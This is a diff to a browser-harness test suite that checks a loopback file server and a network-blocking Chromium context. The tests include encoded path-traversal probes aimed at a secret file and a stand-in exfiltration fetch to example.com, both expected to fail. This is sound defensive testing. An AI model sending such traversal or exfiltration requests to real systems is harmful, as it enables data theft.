@@ -45,13 +45,18 @@ describeBrowser('browser harness: loopback server, chromium, blocked network', (
     writeFileSync(join(root, 'site', 'runs', 'sr1', 'manifest.json'), '{"ok":1}');
     writeFileSync(join(root, 'secret.txt'), 'outside the site');
     mkdirSync(viewer);
+    // The server's page policy allows the viewer's own script files only, as in production.
     writeFileSync(
       join(viewer, 'index.html'),
       '<!doctype html><title>t</title><p id="t">hello from the viewer</p>' +
-        '<p id="data"></p><script>fetch("../index.json").then(r=>r.json())' +
-        '.then(j=>{document.getElementById("data").textContent="runs:"+j.suite_runs.length})' +
-        '</script>',
+        '<p id="data"></p><script src="viewer.js"></script>',
     );
+    writeFileSync(
+      join(viewer, 'viewer.js'),
+      'fetch("../index.json").then(r=>r.json())' +
+        '.then(j=>{document.getElementById("data").textContent="runs:"+j.suite_runs.length})',
+    );
+    writeFileSync(join(viewer, 'viewer.css'), '');
     served = await serveDir(join(root, 'site'), { viewerDir: viewer });
     browser = await launchBrowser();
   });
@@ -68,7 +73,7 @@ describeBrowser('browser harness: loopback server, chromium, blocked network', (
     expect((await fetch(`${served.url}viewer/`)).status).toBe(200);
     // No escape from either root, encoded or not.
     for (const p of ['..%2fsecret.txt', 'viewer/..%2f..%2fsecret.txt', 'nope.json'])
-      expect((await fetch(served.url + p)).status, p).toBe(404);
+      expect((await fetch(served.url + p)).status, p).toBeGreaterThanOrEqual(400);
   });
 
   it('opens the page, reads its text and its relative fetch of ../index.json', async () => {
@@ -82,7 +87,9 @@ describeBrowser('browser harness: loopback server, chromium, blocked network', (
 
   it('aborts every non-loopback request the page makes', async () => {
     const { page, blocked } = await openPage(browser);
-    await page.goto(served.viewerUrl);
+    // The viewer's own page policy (connect-src 'self') would stop this fetch before the
+    // context sees it; a page without a policy shows the context's block alone.
+    await page.goto('about:blank');
     const outcome = await page.evaluate(async () => {
       try {
         await fetch('https://example.com/exfiltrate?x=1');
